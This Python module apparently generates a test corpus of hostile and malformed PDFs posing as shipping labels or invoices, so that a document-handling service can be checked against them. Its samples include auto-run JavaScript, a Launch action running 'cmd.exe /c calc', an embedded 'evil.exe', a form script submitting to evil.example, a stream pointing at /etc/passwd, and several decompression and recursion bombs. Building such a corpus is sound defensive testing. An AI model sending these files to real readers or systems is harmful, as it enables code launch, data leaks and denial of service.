"""PDFs that mean harm, each built from its parts: what a label or an invoice from a stranger could be."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

CONTENT = b"0 0 0 rg 40 40 200 300 re f BT /F1 12 Tf 50 360 Td (1Z999AA10123456784) Tj ET"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), extra, data)


def assemble(objects: dict[int, bytes], *, trailer: bytes = b"", root: int = 1) -> bytes:
    """A PDF of numbered objects with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, trailer, start)
    return bytes(out)


def plain(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    resources: bytes = b"/Font << /F1 5 0 R >>",
    content: bytes | None = None,
    more: dict[int, bytes] | None = None,
    media: bytes = b"[0 0 288 432]",
    trailer: bytes = b"",
) -> bytes:
    """A label of one page, with additions."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources << %s >> /Contents 4 0 R %s >>"
        % (media, resources, page),
        4: content if content is not None else stream(CONTENT),
        5: FONT,
        **(more or {}),
    }
    return assemble(objects, trailer=trailer)


def _pages(count: int, declared: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (10 + n) for n in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 288 432] /Contents 4 0 R /Resources << >> >>"
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, declared),
        4: stream(b"0 0 10 10 re f"),
        **{10 + n: page for n in range(count)},
    }
    return assemble(objects)


def encrypted(*, user: str) -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(plain())))
    writer.encrypt(user_password=user, owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def zipped() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("label.pdf", b"%PDF-1.7")
    return out.getvalue()


def _bomb(layers: int, size: int) -> tuple[bytes, bytes]:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(b"0 0 1 1 re f " * 80_000) for _ in range(size)) + packer.flush()
    for _ in range(layers - 1):
        data = zlib.compress(data, 9)
    filters = b" ".join([b"/FlateDecode"] * layers)
    return data, b"/Filter [%s]" % filters


def flate_bomb(layers: int = 1) -> bytes:
    data, filters = _bomb(layers, 100)
    return plain(content=stream(data, filters))


def object_stream_bomb() -> bytes:
    """A cross-reference stream that keeps the catalog in an object stream which never ends."""
    packer = zlib.compressobj(9)
    head = b"1 0 << /Type /Catalog /Pages 2 0 R >>"
    data = (
        packer.compress(head)
        + b"".join(packer.compress(b" " * 1_000_000) for _ in range(150))
        + packer.flush()
    )
    out = bytearray(b"%PDF-1.7\n")
    at = len(out)
    out += b"7 0 obj\n%s\nendobj\n" % stream(data, b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    start = len(out)
    rows = b"".join(
        bytes([kind]) + where.to_bytes(4, "big") + bytes([generation])
        for kind, where, generation in ((0, 0, 255), (2, 7, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0), (0, 0, 0),
                                        (0, 0, 0), (1, at, 0))
    )  # fmt: skip
    out += b"8 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (
        stream(rows, b"/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R"),
        start,
    )
    return bytes(out)


def _javascript() -> bytes:
    action = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return plain(
        catalog=b"/OpenAction 6 0 R /Names << /JavaScript << /Names [(a) 6 0 R] >> >>", more={6: action}
    )


def _launch() -> bytes:
    action = b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"
    annotation = b"<< /Type /Annot /Subtype /Link /Rect [0 0 288 432] /A 6 0 R >>"
    return plain(page=b"/AA << /O 6 0 R >> /Annots [7 0 R]", more={6: action, 7: annotation})


def _embedded() -> bytes:
    return plain(
        catalog=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /AF [6 0 R]",
        more={
            6: b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>",
            7: stream(b"MZ\x90\x00", b"/Type /EmbeddedFile"),
        },
    )


def _form() -> bytes:
    field = b"<< /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /AA << /K 6 0 R >> >>"
    script = b"<< /S /JavaScript /JS 8 0 R >>"
    return plain(
        catalog=b"/AcroForm << /Fields [7 0 R] /XFA 9 0 R >>",
        page=b"/Annots [7 0 R]",
        more={
            6: script,
            7: field,
            8: stream(b"this.submitForm('http://evil.example')"),
            9: stream(b"<xdp/>"),
        },
    )


def _in_resources() -> bytes:
    """Active things hidden where pages keep their fonts and forms."""
    form = stream(
        b"0 0 9 9 re f", b"/Subtype /Form /BBox [0 0 9 9] /OpenAction 7 0 R /AA << /O 7 0 R >> /Ref 8 0 R"
    )
    return plain(
        resources=b"/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
        content=stream(CONTENT + b" /X Do"),
        more={
            6: form,
            7: b"<< /S /JavaScript /JS (evil) >>",
            8: b"<< /F << /Type /Filespec /F (http://evil.example/a.pdf) >> /Page 0 >>",
        },
    )


def _external_stream() -> bytes:
    return plain(content=b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream")


def _huge_picture() -> bytes:
    picture = stream(
        zlib.compress(b"\0" * 1000),
        b"/Subtype /Image /Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB"
        b" /Filter /FlateDecode",
    )
    return plain(
        resources=b"/XObject << /I 6 0 R >>", content=stream(b"288 0 0 432 0 0 cm /I Do"), more={6: picture}
    )


def _self_drawing_form() -> bytes:
    form = stream(
        b"/X Do " * 40, b"/Subtype /Form /BBox [0 0 288 432] /Resources << /XObject << /X 6 0 R >> >>"
    )
    return plain(resources=b"/XObject << /X 6 0 R >>", content=stream(b"/X Do"), more={6: form})


def _doubling_forms() -> bytes:
    """Each form draws the next one ten times: a hundred million drawings in two kilobytes."""
    forms = {
        10 + n: stream(
            b"/X Do " * 10,
            b"/Subtype /Form /BBox [0 0 288 432] /Resources << /XObject << /X %d 0 R >> >>" % (11 + n),
        )
        for n in range(8)
    }
    forms[18] = stream(b"0 0 9 9 re f", b"/Subtype /Form /BBox [0 0 9 9]")
    return plain(resources=b"/XObject << /X 10 0 R >>", content=stream(b"/X Do"), more=forms)


def _circular_tree() -> bytes:
    return assemble(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            3: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
        }
    )


def _nested_arrays() -> bytes:
    return plain(page=b"/Group " + b"[" * 50_000 + b"]" * 50_000)


def _chain_of_references() -> bytes:
    links = {10 + n: b"<< /Next %d 0 R >>" % (11 + n) for n in range(3000)}
    return plain(page=b"/Group 10 0 R", more={**links, 3010: b"<< >>"})


def _many_objects() -> bytes:
    fonts = {10 + n: b"<< /Type /Font /N %d >>" % n for n in range(8_000)}
    names = b" ".join(b"/G%d %d 0 R" % (n, n) for n in fonts)
    return plain(resources=b"/Font << %s >>" % names, more=fonts)


def _broken_xref() -> bytes:
    return plain().replace(b"0000000", b"0000777")


def _prev_loop() -> bytes:
    data = plain()
    start = data.rindex(b"xref\n0")
    return data.replace(b"/Size 6", b"/Size 6 /Prev %d" % start)


def _long_content() -> bytes:
    return plain(content=stream(zlib.compress(b"q 1 0 0 1 0 0 cm " * 110_000, 9), b"/Filter /FlateDecode"))


def _polyglot() -> bytes:
    return plain() + zipped()


KINDS: dict[str, Callable[[], bytes]] = {
    "javascript": _javascript,
    "launch": _launch,
    "embedded file": _embedded,
    "form with script": _form,
    "active resources": _in_resources,
    "external stream": _external_stream,
    "encrypted": lambda: encrypted(user="secret"),
    "owner's lock": lambda: encrypted(user=""),
    "10,000 pages": lambda: _pages(10_000, 10_000),
    "10,000 pages, 1 declared": lambda: _pages(10_000, 1),
    "a billion pages declared": lambda: _pages(1, 1_000_000_000),
    "no page": lambda: _pages(0, 0),
    "broken cross-references": _broken_xref,
    "cross-references in a circle": _prev_loop,
    "cut off": lambda: plain()[:250],
    "zip": zipped,
    "zip behind a header": lambda: b"%PDF-1.7\n" + zipped(),
    "pdf and zip": _polyglot,
    "flate bomb": flate_bomb,
    "flate bomb in a flate bomb": lambda: flate_bomb(2),
    "object stream bomb": object_stream_bomb,
    "huge picture": _huge_picture,
    "page without size": lambda: plain(media=b"[0 0 0 0]"),
    "page of a mile": lambda: plain(media=b"[0 0 99999999 99999999]"),
    "form that draws itself": _self_drawing_form,
    "forms that draw forms": _doubling_forms,
    "page tree in a circle": _circular_tree,
    "nested arrays": _nested_arrays,
    "chain of references": _chain_of_references,
    "8,000 objects": _many_objects,
    "long content": _long_content,
    "noise": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 2000,
    "a web page": lambda: b"<!doctype html><title>Session expired</title>",
}
